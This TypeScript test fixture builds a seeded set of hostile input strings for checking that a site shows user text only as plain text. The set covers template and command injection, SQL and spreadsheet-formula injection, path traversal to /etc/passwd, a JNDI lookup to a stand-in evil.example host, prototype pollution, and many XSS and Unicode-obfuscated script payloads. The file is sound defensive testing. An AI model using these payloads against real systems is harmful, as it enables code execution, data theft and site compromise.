import { chanceFrom, shuffled } from '../../../src/domain/sample/chance.ts'
import { plainText } from '../../../src/shared/text/text.ts'
import { inShortOrFull } from '../../support/soak.ts'
import { HIT, HOSTILE_MARKUP } from './hostile-markup.ts'

const templates = [
  `{{constructor.constructor('${HIT}')()}}`,
  `{{$on.constructor('${HIT}')()}}`,
  `{{7*7}}`,
  `{{{${HIT}}}}`,
  `[[${HIT}]]`,
  `\${${HIT}}`,
  `#{${HIT}}`,
  `@{${HIT}}`,
  `*{7*7}`,
  `<%= ${HIT} %>`,
  `{%25 raw %25}<script>${HIT}</script>`,
  `{% include "/etc/passwd" %}`,
  `\${jndi:ldap://evil.example/x}`,
  `$(touch /tmp/hit)`,
  `\`touch /tmp/hit\``,
  `| touch /tmp/hit`,
  `; touch /tmp/hit`,
  `'; drop table post; --`,
  `" or ""="`,
  `1' union select token_hash from session --`,
  `") or post_search match ("a`,
  `%' or 1=1 --`,
  `=cmd|'/c calc'!A1`,
  `+1+cmd|'/c calc'`,
  `@SUM(1+1)*cmd`,
  `../../../../etc/passwd`,
  `..%2f..%2fetc%2fpasswd`,
  `file:///etc/passwd`,
  `https://evil.example@on-joue.test/`,
  `//evil.example/path`,
  `/\\evil.example`,
  `https://example.com/"onmouseover="${HIT}`,
  `https://example.com/'onmouseover='${HIT}`,
  `https://example.com/<img/src=x/onerror=${HIT}>`,
  `https://example.com/\`onmouseover=${HIT}`,
  `http://[::1]"><script>${HIT}</script>`,
  `https://example.com/?a=javascript:${HIT}#"><img src=x onerror=${HIT}>`,
  `http://javascript:${HIT}@example.com/`,
  `https:javascript:${HIT}`,
  `feed:javascript:${HIT}`,
  `blob:https://example.com/${HIT}`,
  `filesystem:http://example.com/${HIT}`,
  `view-source:javascript:${HIT}`,
  `jar:javascript:${HIT}!`,
]

const markdown = [
  `[a](javascript:${HIT})`,
  `[a](  javascript:${HIT} "title")`,
  `![a](x"onerror="${HIT})`,
  `![a](javascript:${HIT})`,
  `[a]: javascript:${HIT}`,
  `[a](data:text/html,<script>${HIT}</script>)`,
  `<javascript:${HIT}>`,
  `[url=javascript:${HIT}]a[/url]`,
  `[img]x" onerror="${HIT}[/img]`,
  `[b]<script>${HIT}</script>[/b]`,
  `**<img src=x onerror=${HIT}>**`,
  `\`\`\`<img src=x onerror=${HIT}>\`\`\``,
  `# <script>${HIT}</script>`,
  `* <iframe src=javascript:${HIT}>`,
  `@maya<script>${HIT}</script>`,
  `@<img src=x onerror=${HIT}>`,
  `@"onmouseover=${HIT}`,
  `#1"><script>${HIT}</script>`,
  `a > b </blockquote><script>${HIT}</script>`,
]

const inJson = [
  `"}</script><script>${HIT}</script>`,
  `"};${HIT};//`,
  `";${HIT};"`,
  `';${HIT};'`,
  `\\";${HIT};//`,
  `\\'-${HIT}-\\'`,
  `\\</script><script>${HIT}</script>`,
  `<!--<script>`,
  `<\\/script><script>${HIT}<\\/script>`,
  `"__proto__":{"isAdmin":true}`,
  `{"toString":"x","__proto__":null}`,
  `constructor.prototype.isAdmin=1`,
  `\\u0022};${HIT};//`,
  `\\n${HIT}\\n`,
  `]]}'"--></script><svg onload=${HIT}>`,
  `</script/x><img src=x onerror=${HIT}>`,
  `*/${HIT}/*`,
  `//${HIT}`,
]

const inStyles = [
  `</style><img src=x onerror=${HIT}>`,
  `x{background:url(javascript:${HIT})}`,
  `expression(${HIT})`,
  `behavior:url(#default#time2)`,
  `;color:red;background:url(//evil.example/x)`,
  `\\65xpression(${HIT})`,
  `@import url(javascript:${HIT});`,
  `} body{display:none} x{`,
  `position:fixed;inset:0;z-index:9`,
  `url("data:image/svg+xml,<svg onload=${HIT}>")`,
]

const inUnicode = [
  `\uff1cscript\uff1e${HIT}\uff1c/script\uff1e`,
  `\u02c2script\u02c3${HIT}`,
  `<\u017fcript>${HIT}</\u017fcript>`,
  `<scr\u0130pt>${HIT}</scr\u0130pt>`,
  `<s\u200bcript>${HIT}</s\u200bcript>`,
  `<\ufeffscript>${HIT}</script>`,
  `java\u200bscript:${HIT}`,
  `java\u00adscript:${HIT}`,
  `\u0001javascript:${HIT}`,
  `java\u0000script:${HIT}//zero`,
  `<img src=x o\u0000nerror=${HIT}>`,
  `<\u0000script>${HIT}</script>`,
  `<img src=x \u2028onerror=${HIT}>`,
  `\u202e>tpircs/<1=tih__.wodniw>tpircs<\u202c`,
  `\u2066<script>\u2069${HIT}`,
  `a\u0300\u0301\u0302\u0303<script>${HIT}</script>`,
  `\ud83d\udc76<img src=x onerror=${HIT}>\ud83d\udc76`,
  `\ud800<script>${HIT}</script>`,
  `<script>${HIT}</script>\udc00`,
  `\u212aelvin<script>${HIT}</script>`,
  `\u0085<script>${HIT}</script>`,
  `+ADw-script+AD4-${HIT}+ADw-/script+AD4-`,
  `\u00bcscript\u00be${HIT}\u00bc/script\u00be`,
  `%u003cscript%u003e${HIT}`,
  `%c0%bcscript%c0%be${HIT}`,
  `&#0000060script&#0000062${HIT}`,
  `&#x000003cscript&#x000003e${HIT}`,
  `&LT;script&GT;${HIT}`,
  `&NewLine;javascript:${HIT}`,
  `&#8234;<img src=x onerror=${HIT}>`,
  `&apos;;${HIT};&apos;`,
  `&lpar;&rpar;&lbrace;${HIT}&rbrace;`,
]

const SEED = 20_260_501

/** Texts that would set `window.__hit`, open a dialog or leave the site, were any of them taken for more than text. */
export const ALL_HOSTILE_TEXTS: readonly string[] = [...HOSTILE_MARKUP, ...templates, ...markdown, ...inJson, ...inStyles, ...inUnicode]

/** Those of this run: a third, the same every time, or all. */
export const HOSTILE_TEXTS: readonly string[] = inShortOrFull(
  shuffled(chanceFrom(SEED), ALL_HOSTILE_TEXTS).slice(0, Math.ceil(ALL_HOSTILE_TEXTS.length / 3)),
  [...ALL_HOSTILE_TEXTS],
)

/** How the site shows a text: without what no one can see, on one line. */
export const shownAs = (text: string): string => plainText(text).replace(/\s+/g, ' ').trim()

/** As many texts side by side as fit into `most` characters, again and again until all had their turn. */
export function inBatches(texts: readonly string[], most: number): string[] {
  const batches: string[] = []
  for (const text of texts.map(shownAs).filter(({ length }) => length <= most)) {
    const last = batches.at(-1)
    if (last !== undefined && last.length + 1 + text.length <= most) batches[batches.length - 1] = `${last} ${text}`
    else batches.push(text)
  }
  return batches
}
